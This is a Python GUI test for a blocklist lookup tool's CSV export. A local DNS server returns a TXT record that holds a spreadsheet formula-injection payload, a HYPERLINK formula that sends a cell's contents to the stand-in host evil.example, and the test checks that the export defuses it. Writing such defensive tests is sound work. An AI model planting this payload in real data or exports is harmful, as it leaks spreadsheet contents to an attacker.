"""A blocklist's TXT record is server-controlled text: the CSV export must not let it run as a formula.

A real BIND on loopback serves a listing whose TXT reason is a spreadsheet formula; the
Blacklist tab runs the real lookup and exports its CSV, which is read back as a spreadsheet would.
"""

from __future__ import annotations

import csv

import pytest
from PySide6.QtCore import Qt

from servers.bind import BindServer
from sbskit.ui.blacklist.tab import BlacklistTab

pytestmark = pytest.mark.gui

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click to delist")'
LISTED = "192.0.2.99"


@pytest.fixture(scope="module")
def bind(tmp_path_factory):
    server = BindServer(tmp_path_factory.mktemp("bind-formula"))
    label = ".".join(reversed(LISTED.split(".")))
    formula = FORMULA.replace('"', '\\"')
    server.add_zone("formula.bl.test", f'{label} A 127.0.0.2\n{label} TXT "{formula}"\n'
                                       '2.0.0.127 A 127.0.0.2\n')
    server.start()
    yield server
    server.stop()


def test_csv_export_neutralises_a_formula_in_a_txt_record(qtbot, bind, tmp_path):
    tab = BlacklistTab()
    qtbot.addWidget(tab)
    tab.resolver_edit.setText(bind.address)
    tab.timeout_spin.setValue(2.0)
    tab.zones_edit.setText("formula.bl.test")
    tab.target_box.setEditText(LISTED)
    assert tab.validate()
    qtbot.keyClick(tab.target_box.lineEdit(), Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: tab.worker is None, timeout=15000)
    out = tmp_path / "results.csv"
    tab.ask_save_path = lambda default: str(out)
    tab.export_csv()
    with open(out, newline="", encoding="utf-8") as handle:
        table = list(csv.DictReader(handle))
    (row,) = [r for r in table if r["zone"] == "formula.bl.test"]
    assert row["status"] == "listed"
    assert row["txt"] == "'" + FORMULA  # the server's text, kept whole, shown as text
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in table for cell in r.values())
    tab.shutdown()
